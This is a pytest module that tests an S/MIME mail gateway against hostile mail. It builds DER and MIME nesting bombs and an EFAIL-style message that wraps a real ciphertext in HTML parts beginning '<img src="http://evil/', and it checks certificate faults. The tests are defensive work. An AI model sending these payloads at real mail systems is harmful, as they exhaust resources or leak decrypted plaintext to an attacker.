"""F23, F24 and F25 through the real daemon: hostile mail is set aside, costs little, and the next message goes on.

Judging alone is measured message by message in ``tests/smime/test_resources.py``; here it is the whole way, with the
mail of others behind it.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from gateway.agents import IsolatedAgent, ReloadableAgent
from gateway.core.message import Envelope, Inbound, MemoryBody, Source
from gateway.keys.body_keys import body_sealer
from gateway.observability.clock import SystemClock
from gateway.pipeline.accept import Accept
from gateway.pipeline.unwrap import Unwrap
from gateway.settings import load
from gateway.store.ids import new_id
from gateway.store.sql_store import SQLStore
from tests.support.der_forge import integer, octets, oid, seq, tlv
from tests.support.direct_messages import (
    CryptographyStack,
    direct_message,
    inner_message,
    outer_message,
    wrapped_entity,
)
from tests.support.forge_names import CBC, DATA, ENVELOPED_DATA, RSA, issuer_and_serial
from tests.support.gateway_process import Practice
from tests.support.pki import Authority, Identity

SENDER = "dr.ok@partner.example"
STACK = CryptographyStack()
JUDGED_SECONDS = 5.0
MAX_GROWTH_MIB = 256


def enveloped(practice: Practice, infos: bytes, content: bytes) -> bytes:
    algorithm = seq(oid(CBC[32]), octets(bytes(16)))
    body = seq(integer(0), tlv(0x31, infos), seq(oid(DATA), algorithm, content))
    return outer_message(seq(oid(ENVELOPED_DATA), tlv(0xA0, body)), SENDER, [practice.addresses[0]])


def many_recipients(practice: Practice, _signer: Identity) -> bytes:
    key = practice.identity().certificate
    one = seq(integer(0), issuer_and_serial(key), seq(oid(RSA), b"\x05\x00"), octets(bytes(256)))
    return enveloped(practice, one * 10_000, tlv(0x80, bytes(64)))


def nested_without_end(practice: Practice, _signer: Identity) -> bytes:
    return outer_message(b"\x30\x80" * 200_000, SENDER, [practice.addresses[0]])


def crumbs(practice: Practice, _signer: Identity) -> bytes:
    return enveloped(practice, b"", tlv(0xA0, octets(b"x") * 2_000_000))


def parts_within_parts(practice: Practice, signer: Identity) -> bytes:
    """Genuinely signed and sealed: only the message inside is a bomb."""
    deep = b"Content-Type: text/plain\r\n\r\ninnermost\r\n"
    for level in range(100):
        line = b"b%d" % level
        head = b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n' % line
        deep = head + b"--" + line + b"\r\n" + deep + b"\r\n--" + line + b"--\r\n"
    head = f"From: {SENDER}\r\nTo: {practice.addresses[0]}\r\nMIME-Version: 1.0\r\n".encode()
    return sealed(practice, STACK.sign(wrapped_entity(head + deep), signer))


Bomb = Callable[[Practice, Identity], bytes]
SMALL: tuple[Bomb, ...] = (many_recipients, parts_within_parts)
LARGE: tuple[Bomb, ...] = (nested_without_end, crumbs)


def sealed(practice: Practice, entity: bytes) -> bytes:
    return outer_message(STACK.encrypt(entity, [practice.identity()]), SENDER, [practice.addresses[0]])


def genuine(practice: Practice, signer: Identity, number: int) -> tuple[bytes, bytes]:
    recipients = [practice.addresses[0]]
    inner = inner_message(SENDER, recipients, message_id=f"<g{number}@partner.example>")
    raw = direct_message(STACK, inner, sender=SENDER, recipients=recipients, signer=signer, to=[practice.identity()])
    return inner, raw


def send(practice: Practice, raw: bytes) -> None:
    assert practice.send(raw, SENDER, [practice.addresses[0]])[0] == 250


def peak_mib(practice: Practice) -> int:
    assert practice.process is not None
    status = Path(f"/proc/{practice.process.pid}/status").read_text()
    return int(status.split("VmHWM:")[1].split()[0]) >> 10


@pytest.fixture(scope="module")
def clinic(tmp_path_factory: pytest.TempPathFactory, partner_ca: Authority) -> Iterator[Practice]:
    made = Practice.make(tmp_path_factory.mktemp("hostile") / "practice")
    made.trust(partner_ca.pem)
    made.start()
    try:
        yield made
    finally:
        made.stop()


@pytest.mark.parametrize("bombs", [SMALL, pytest.param(LARGE, marks=pytest.mark.slow)], ids=["small", "large"])
def test_bombs_are_set_aside_in_time_and_the_next_message_goes_on(
    clinic: Practice, partner_ca: Authority, report: Callable[[str], None], bombs: tuple[Bomb, ...]
) -> None:
    """F23."""
    signer = partner_ca.issue(address=SENDER)
    count = len(clinic.messages())
    inner, raw = genuine(clinic, signer, 50 + count)
    send(clinic, raw)
    count = len(clinic.settled(count + 1))
    before, longest = peak_mib(clinic), 0.0
    for bomb in bombs:
        hostile = bomb(clinic, signer)
        after, behind = genuine(clinic, signer, 100 + count)
        send(clinic, hostile)
        began = time.monotonic()
        send(clinic, behind)
        count += 2
        newest = {m["reason"] for m in clinic.settled(count)[:2]}
        longest = max(longest, time.monotonic() - began)
        assert longest < 2 * JUDGED_SECONDS, bomb.__name__
        assert newest == {"resource_limit", "ok"}, bomb.__name__
        assert after in clinic.inbox()
    inbox = clinic.inbox()
    grown = peak_mib(clinic) - before
    report(
        f"F23: points={len(bombs)} lost={int(inner not in inbox)} duplicated={len(inbox) - len(set(inbox))} "
        f"longest={longest:.1f} s grown={grown} MiB"
    )
    assert inbox.count(inner) == 1
    assert grown < MAX_GROWTH_MIB


def test_tricks_of_the_efail_kind_show_nothing(
    clinic: Practice, partner_ca: Authority, report: Callable[[str], None]
) -> None:
    """F24: a genuine ciphertext between an attacker's parts, signed or not, is no message; nothing of it is shown."""
    signer = partner_ca.issue(address=SENDER)
    inner, raw = genuine(clinic, signer, 900)
    shown = len(clinic.inbox())
    count = len(clinic.messages())
    body = raw.partition(b"\r\n\r\n")[2]
    cms = (
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    mixed = (
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/'
        b"\r\n--x\r\n" + cms + body + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    head = f"From: {SENDER}\r\nTo: {clinic.addresses[0]}\r\nMIME-Version: 1.0\r\n".encode()
    unsigned = sealed(clinic, wrapped_entity(inner))
    wrapped_spoof = sealed(clinic, wrapped_entity(STACK.sign(wrapped_entity(inner), signer)))
    tricks = (head + mixed, sealed(clinic, mixed), unsigned, wrapped_spoof)
    for hostile in tricks:
        send(clinic, hostile)
    newest = clinic.settled(count + len(tricks))[: len(tricks)]
    more = len(clinic.inbox()) - shown
    report(f"F24: points={len(tricks)} shown={more}")
    assert {one["state"] for one in newest} == {"refused"}
    assert more == 0
    assert b"evil" not in clinic.log.read_bytes()


async def test_a_message_that_waits_is_judged_by_the_trust_of_then(
    tmp_path: Path, partner_ca: Authority, stranger_ca: Authority
) -> None:
    """An anchor that is taken away while mail is queued is not trusted for it; one that is added meanwhile is (F25)."""
    practice = Practice.make(tmp_path / "practice")
    practice.trust(partner_ca.pem)
    settings, clock = load(practice.config), SystemClock()
    with SQLStore.open(settings.store, body_sealer(settings)) as store, ThreadPoolExecutor(1) as executor:
        agent = ReloadableAgent(settings.trust)
        accept = Accept(store, clock, lambda: new_id(clock.now()), lambda: None)
        unwrap = Unwrap(store, agent, clock, executor, IsolatedAgent(settings.trust))
        envelope = Envelope(SENDER, tuple(practice.addresses))
        signers = [authority.issue(address=SENDER) for authority in (partner_ca, stranger_ca)]
        queued = [
            await accept(Inbound(MemoryBody(genuine(practice, signer, number)[1]), envelope, Source.SMTP))
            for number, signer in enumerate(signers)
        ]
        (practice.directory / "certs" / "anchors" / "partner.pem").unlink()
        practice.trust(stranger_ca.pem, name="stranger")
        agent.reload()
        for job in await store.write(lambda tx: tx.jobs.claim(60, 10)):
            await unwrap(job)
        verdicts = await store.read(lambda tx: [tx.messages.verdict(one) for one in queued])
    assert [verdict and verdict["reason"] for verdict in verdicts] == ["untrusted", "ok"]


@pytest.mark.parametrize(
    "how", ["expired", *(pytest.param(how, marks=pytest.mark.slow) for how in ("not yet", "encryption only"))]
)
def test_faults_of_the_signer_s_certificate_are_refused(
    clinic: Practice, partner_ca: Authority, report: Callable[[str], None], how: str
) -> None:
    """F25."""
    now = datetime.now(UTC)
    options = {
        "expired": {"not_before": now - timedelta(days=9), "not_after": now - timedelta(days=1)},
        "not yet": {"not_before": now + timedelta(days=1), "not_after": now + timedelta(days=9)},
        "encryption only": {"digital_signature": False},
    }[how]
    count = len(clinic.messages())
    _, raw = genuine(clinic, partner_ca.issue(address=SENDER, **options), 700 + count)  # type: ignore[arg-type]
    send(clinic, raw)
    newest = clinic.settled(count + 1)[0]
    report(f"F25 ({how}): points=1 shown={int(newest['state'] != 'refused')}")
    assert newest["state"] == "refused"
    assert newest["reason"] in {"expired", "key_usage"}
